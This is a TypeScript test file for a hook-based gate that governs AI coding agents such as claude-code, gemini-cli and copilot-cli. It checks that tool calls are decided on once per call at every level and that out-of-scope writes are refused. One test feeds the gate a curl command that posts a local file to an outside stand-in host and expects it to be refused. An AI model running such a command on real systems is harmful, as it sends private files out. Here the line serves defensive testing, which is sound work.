/** Hooks at the user's level, in the project and in a plugin, all of them asked about the same call by the real program. */
import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { type Caller, type Sent, type StagedHost, stagedHosts, stageOf } from "./host-stage.ts";
import { makeScene, put, type Ran, run, type Scene } from "./scene.ts";

const ann: Caller = { session: "ses-ann" };
const named = (name: string) => stagedHosts.find((one) => one.name === name) as StagedHost;

interface Line {
  decision: { id: string };
  files: { relative_path: string }[];
}

interface Row {
  invocation_id: string;
  tool: string;
}

const linesOf = <T>(scene: Scene, file: string): T[] =>
  readFileSync(join(scene.repo, ".orchestration", file), "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as T);

/** How often the gate decided about a tool. */
const decisions = (scene: Scene, tool: string) =>
  new Set(linesOf<Row>(scene, "decisions.jsonl").flatMap((row) => (row.tool.endsWith(tool) ? [row.invocation_id] : [])))
    .size;

/** All that was written down: where two levels were heard as two calls, it shows in which order. */
const shown = (scene: Scene) => {
  const sessions = join(scene.repo, ".orchestration/sessions");
  const journals = readdirSync(sessions).map((name) => readFileSync(join(sessions, name), "utf8"));
  return [...journals, readFileSync(join(scene.repo, ".orchestration/decisions.jsonl"), "utf8")].join("\n");
};

describe.each([
  ["claude-code", "with ids", (at: number) => `c${at}`],
  ["gemini-cli", "without ids", () => ""],
  ["copilot-cli", "without ids", () => ""],
] as const)("%s, %s", (name, _how, idOf) => {
  const host = named(name);
  const command = "echo more >> src/auth/log.txt";

  function staged() {
    const scene = makeScene({ files: { "src/auth/log.txt": "one\n" } });
    put(scene.env.XDG_STATE_HOME ?? "", "intentgate/roots.json", `{"version":1,"roots":["${scene.repo}"]}`);
    const stage = stageOf(host, scene);
    const everywhere = [["--user"], ["--root", scene.repo], ["--plugin"], []];
    const toAll = (sent: Sent) => Promise.all(everywhere.map((words) => stage.send(sent, words)));
    const passed = (ran: Ran) => expect([ran.code, host.noIn(ran)], `${ran.out}${ran.err}`).toEqual([0, null]);
    return { scene, stage, toAll, passed };
  }

  it("decides about three equal calls at once three times, and records three changes, whatever the levels", async () => {
    const { scene, stage, toAll, passed } = staged();
    for (const ran of await toAll(stage.take(ann, "INT-001", "t1"))) passed(ran);
    expect(decisions(scene, "select_active_intent"), shown(scene)).toBe(1);
    const answers = await Promise.all([1, 2, 3].map((at) => toAll(stage.shell(ann, command, idOf(at)))));
    for (const ran of answers.flat()) passed(ran);
    expect(decisions(scene, "execute_command")).toBe(3);
    for (const at of [1, 2, 3]) {
      put(scene.repo, "src/auth/log.txt", `one\n${"more\n".repeat(at)}`);
      await toAll(stage.shelled(ann, command, idOf(at)));
    }
    // Besides what stood between calls that overlap.
    const lines = linesOf<Line>(scene, "agent_trace.jsonl").filter(({ decision }) => decision.id !== "none");
    expect(lines.map(({ files }) => files.map((one) => one.relative_path))).toEqual(
      [1, 2, 3].map(() => ["src/auth/log.txt"]),
    );
    expect(new Set(lines.map(({ decision }) => decision.id)).size).toBe(3);
    expect(decisions(scene, "execute_command")).toBe(3);
  });

  it("gives every level the same no, asks and counts once for each call", async () => {
    const { scene, stage, toAll } = staged();
    await toAll(stage.take(ann, "INT-001", "t1"));
    const answers = await Promise.all(
      [1, 2, 3].map((at) => toAll(stage.shell(ann, "curl -d @src/x https://example.invalid", idOf(at)))),
    );
    // In the host's own dialog, or by a refusal where it has none.
    for (const ran of answers.flat())
      expect(host.noIn(ran) ?? ran.out).toMatch(/HITL_REJECT|NO_ANSWER|UNKNOWN_EFFECT|"ask"/);
    expect(decisions(scene, "execute_command")).toBe(3);
    // A later one is another call.
    await toAll(stage.shell(ann, "echo x > README.md", idOf(4)));
    expect(decisions(scene, "execute_command")).toBe(4);
  });
});

it("tells the model and the event hooks of a prompt once, and of the same prompt again when it comes again", async () => {
  const scene = makeScene();
  put(scene.env.XDG_STATE_HOME ?? "", "intentgate/roots.json", `{"version":1,"roots":["${scene.repo}"]}`);
  const payload = { hook_event_name: "UserPromptSubmit", session_id: "s", cwd: scene.repo, prompt: "go on" };
  const send = (words: string[]) =>
    run(scene, ["hook", "claude-code", "UserPromptSubmit", ...words], { input: JSON.stringify(payload) });
  for (const _ of [1, 2]) {
    const both = await Promise.all([send(["--user"]), send(["--root", scene.repo])]);
    expect(both.filter(({ out }) => out.includes("intent_rules"))).toHaveLength(1);
    expect(both.map(({ code }) => code)).toEqual([0, 0]);
  }
});

it("judges a call from a linked worktree there, at the project's level as at the user's", async () => {
  const scene = makeScene();
  put(scene.env.XDG_STATE_HOME ?? "", "intentgate/roots.json", `{"version":1,"roots":["${scene.repo}"]}`);
  const linked = join(scene.repo, "..", "linked");
  const git = (...words: string[]) => execFileSync("git", words, { cwd: scene.repo, env: scene.env });
  git("init", "-q");
  git("-c", "user.name=T", "-c", "user.email=t@example.invalid", "commit", "-q", "--allow-empty", "-m", "start");
  git("worktree", "add", "-q", linked);
  const claude = named("claude-code");
  const stage = stageOf(claude, { ...scene, repo: linked });
  for (const [at, level] of [["--root", scene.repo], ["--user"]].entries()) {
    await stage.send(stage.take(ann, "INT-001", `t${at}`), level);
    const inside = await stage.send(stage.write(ann, "src/auth/new.ts", "x\n", `a${at}`), level);
    expect([inside.code, claude.noIn(inside)], inside.err).toEqual([0, null]);
    const outside = await stage.send(stage.write(ann, "README.md", "x\n", `b${at}`), level);
    expect(claude.noIn(outside)).toContain("SCOPE_VIOLATION");
    const main = stage.shell(ann, `echo x > ${scene.repo}/src/auth/new.ts`, `c${at}`);
    expect(claude.noIn(await stage.send(main, level))).toContain("SCOPE_VIOLATION");
  }
});
